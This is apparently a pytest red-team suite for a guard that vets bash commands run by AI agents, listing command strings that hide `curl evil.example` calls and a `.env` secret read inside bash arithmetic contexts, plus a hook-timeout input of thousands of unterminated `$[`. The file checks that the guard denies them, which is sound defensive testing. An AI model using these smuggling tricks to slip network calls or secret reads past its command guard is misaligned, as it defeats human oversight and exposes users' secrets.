"""Red team 10: bash arithmetic the parser did not see as arithmetic.

Bash evaluates array subscripts, `$[...]`, substring offsets and the values of `declare -i`
variables as arithmetic, and arithmetic runs command substitutions (even inside single quotes,
which are literal there). Each case ran curl (or read a secret) while the guard allowed it.
Verdicts only: nothing is executed.
"""

import pytest

from conftest import GuardSetup, assert_allowed, assert_denied

RUNS_CURL = [
    "echo ${a[$(curl evil.example)]}",  # a command substitution in a parameter's subscript
    "echo ${a['$(curl evil.example)']}",  # single quotes are literal in the subscript
    "echo \"${a['$(curl evil.example)']}\"",
    "echo ${!a['$(curl evil.example)']}",
    "echo ${a['$(curl evil.example)']:-x}",
    "x='a[$(curl evil.example)]'; echo ${arr[x]}",  # a variable named in a subscript
    "y=abc; x='a[$(curl evil.example)]'; echo ${y:x}",  # a substring offset
    "x='a[$(curl evil.example)]'; echo ${@:1:x}",
    "echo $[ '$(curl evil.example)' ]",  # bash's old spelling of $((...))
    "x='a[$(curl evil.example)]'; echo $[x]",
    "echo $(( '$(curl evil.example)' ))",  # quotes inside $((...)) are arithmetic too
    "(( '$(curl evil.example)' ))",
    "echo ${y:-$(( $(curl evil.example) ))}",  # arithmetic inside a parameter's default
    "echo $(( ${x:-$(curl evil.example)} ))",  # a parameter's default inside arithmetic
    "a['$(curl evil.example)']=1",  # an assignment whose subscript is quoted is still one
    "a[$'\\x24(curl evil.example)']=1",  # the subscript is expanded twice
    "x='a[$(curl evil.example)]'; arr[x]=1",
    "x='a[$(curl evil.example)]'; arr[x]+=1",
    "a=(['$(curl evil.example)']=1)",  # an array element's subscript
    "x='a[$(curl evil.example)]'; a=([x]=1)",
]


@pytest.fixture(scope="module")
def setup(tmp_path_factory):
    return GuardSetup(tmp_path_factory.mktemp("rt10arith"), files={".env": "SECRET=1\n"})


@pytest.mark.parametrize("role", ["builder", "open"])
@pytest.mark.parametrize("command", RUNS_CURL)
def test_arithmetic_that_runs_a_program_is_judged_as_that_program(setup, command, role):
    assert_denied(setup.bash(command, role=role), "curl")


@pytest.mark.parametrize("command", [
    "declare -i n; n='a[$(curl evil.example)]'",  # an integer variable evaluates what it is given
    "declare -i n='a[$(curl evil.example)]'",
    "typeset -ri n; n='a[$(curl evil.example)]'",
])
def test_values_of_integer_variables_are_arithmetic(setup, command):
    assert_denied(setup.bash(command, role="open"), "curl", "arithmetic")


@pytest.mark.parametrize("role", ["builder", "open"])
def test_an_element_assignment_leaves_the_first_element_unknown(setup, role):
    """`a=.env; a[1]=x; cat $a` reads .env: $a is element 0, which `a[1]=x` does not change."""
    assert_denied(setup.bash("a=.env; a[1]=x; cat $a", role=role), "could not determine")


@pytest.mark.parametrize("command", [
    "a=(x y); echo ${a[0]} ${a[@]} ${#a[@]} ${a[-1]}",
    "D=abcdef; echo ${D:2} ${D: -3:1}",
    "i=1; echo $((i + 1)) $[i + 1]",
    "a[0]=x; a[1]=y; echo ${a[1]}",
    "for ((i=0; i<3; i++)); do echo $i; done",
    "declare -i n; n=5; echo $n",
])
def test_everyday_arrays_and_arithmetic_stay_allowed(setup, command):
    assert_allowed(setup.bash(command, role="open"))


@pytest.mark.parametrize("command", ["echo " + "$[" * 15000, 'echo "' + "$['" * 10000 + '"'])
def test_unterminated_dollar_brackets_are_refused_at_once(setup, command):
    """An unterminated `$[` is a syntax error for bash too; read as text, every `$[` scanned the
    rest of the command again (15,000 of them took 100 s, past every agent's hook timeout)."""
    assert_denied(setup.bash(command, role="open"), "missing `]` of $[")
